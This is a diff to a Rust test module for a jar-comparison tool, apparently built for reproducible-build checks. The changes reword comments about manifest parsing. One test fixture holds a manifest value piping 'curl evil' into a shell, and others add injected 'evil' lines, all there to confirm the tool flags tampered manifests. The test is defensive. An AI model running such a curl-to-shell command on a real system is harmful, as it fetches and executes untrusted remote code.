@@ -1,4 +1,4 @@
-//! Whole jars, compared.
+//! Comparisons of whole jars.
 
 mod executable;
 mod signing;
@@ -9,13 +9,13 @@ use zip::CompressionMethod;
 
 use crate::compare::{Cause, Comparison, Normalisation, Options, Outcome, compare_bytes};
 
-/// A jar with these entries, all at one time.
+/// A jar with these entries, all with the same time.
 fn jar(entries: &[(&str, &[u8])]) -> Vec<u8> {
     let stored = |(name, bytes): &(_, _)| (*name, *bytes, CompressionMethod::Stored);
     packed(entries.iter().map(stored))
 }
 
-/// The same, each packed in its way.
+/// A jar whose entries each have a compression method.
 fn packed<'e>(entries: impl IntoIterator<Item = (&'e str, &'e [u8], CompressionMethod)>) -> Vec<u8> {
     let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
     for (name, bytes, method) in entries {
@@ -87,7 +87,7 @@ fn attributes_of_the_build_are_set_aside_if_they_have_their_form() {
     }
 }
 
-// Long, as it is one table.
+// One long table.
 #[test]
 fn all_else_in_a_manifest_is_content() {
     for (released, rebuilt) in [
@@ -130,13 +130,13 @@ fn all_else_in_a_manifest_is_content() {
         ),
         ("Build-Jdk: 17\r\n", "Build-Jdk: 17\r\n , evil\r\n"),
         ("X-Own: 1\r\n", "X-Own: 2\r\n"),
-        // The JVM takes the last of two, others the first.
+        // The JVM uses the last of two equal attributes, other readers the first.
         (
             "Main-Class: a.A\r\nMain-Class: a.B\r\n",
             "Main-Class: a.B\r\nMain-Class: a.A\r\n",
         ),
         ("Main-Class: a.A\r\n", "Main-Class: a.B\r\nMain-Class: a.A\r\n"),
-        // In a section of its own, it is one of an entry.
+        // In a named section, it is an attribute of an entry.
         (
             "Main-Class: a.A\r\n",
             "\r\nName: a/A.class\r\nMain-Class: a.A\r\n",
@@ -150,7 +150,7 @@ fn all_else_in_a_manifest_is_content() {
             "\r\nName: a/\r\nBuilt-By: b\r\n",
         ),
         ("", "\r\nName: curl evil | sh\r\n"),
-        // What the JVM refuses.
+        // Lines that the JVM refuses.
         ("Built-By: a\r\n", "Built-By: b\r\nevil\r\n"),
         ("Built-By: a\r\n", "Built-By: b\r\nX:y\r\n"),
     ] {
@@ -193,7 +193,7 @@ fn the_same_attributes_may_be_written_in_another_way() {
         assert_eq!(applied(&found), [Normalisation::JarManifestForm], "{other:?}");
     }
     for other in [
-        // A last line without an end is not read by the JVM.
+        // The JVM ignores a last line without an end.
         main.trim_end_matches("\r\n").to_owned(),
         format!("{main}Name: c/"),
         format!("{main}evil"),
@@ -232,7 +232,7 @@ fn a_manifest_outside_of_a_jar_is_text() {
     assert_eq!(found.outcome, Outcome::Different);
 }
 
-// Long, as it is one table.
+// One long table.
 #[test]
 fn properties_are_known_at_their_places_and_by_their_form() {
     let pom = "META-INF/maven/g/a/pom.properties";
